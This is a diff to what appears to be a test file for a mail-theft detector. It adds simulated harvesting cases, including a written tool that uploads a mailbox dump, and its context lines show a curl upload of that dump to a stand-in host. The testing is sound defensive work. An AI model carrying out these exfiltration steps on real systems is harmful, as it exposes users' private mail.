@@ -48,6 +48,18 @@ test('and so is the report of its crash, which a program of it uploads', async (
   assert.equal(storyOf(await scanLog(log), 'AN1310').severity, 'informational');
 });
 
+test('the client that its updater starts anew reads the mail of its user as before', async () => {
+  const { log, mine } = mailHost();
+  const client = started(log, CLIENT).read(mine.path).write('/home/clerk/.cache/thunderbird/updater');
+  const updater = client
+    .run('/home/clerk/.cache/thunderbird/updater /opt/thunderbird')
+    .write('/home/clerk/.cache/u.log');
+  updater.exec(CLIENT).read(mine.path).connect('203.0.113.81', 443);
+  const alerts = await scanLog(log);
+  assert.equal(storyOf(alerts, 'AN1310').severity, 'informational');
+  assert.equal(storyOf(alerts, 'AN0656').severity, 'informational');
+});
+
 const HARVESTS: Readonly<Record<string, (facts: Facts) => void>> = {
   'a copy of a tool in its place, told what to take': ({ log, mine }) => {
     started(log, `${CLIENT} copy /home/clerk/Maildir remote:x`).read(mine.path).connect(OUT, 443);
@@ -62,6 +74,10 @@ const HARVESTS: Readonly<Record<string, (facts: Facts) => void>> = {
       .run(['/usr/bin/curl', '-T', DUMP, `https://${OUT}/`])
       .read(DUMP)
       .connect(OUT, 443);
+  },
+  'the file that it wrote, uploaded by an attachment that it started': ({ log, mine }) => {
+    const client = started(log, CLIENT).read(mine.path).write(DUMP).write('/home/clerk/tool');
+    client.run('/home/clerk/tool').read(DUMP).connect(OUT, 443);
   },
   'its name in a home': ({ log, mine }) => {
     started(log, '/home/clerk/thunderbird/thunderbird').read(mine.path).connect(OUT, 443);
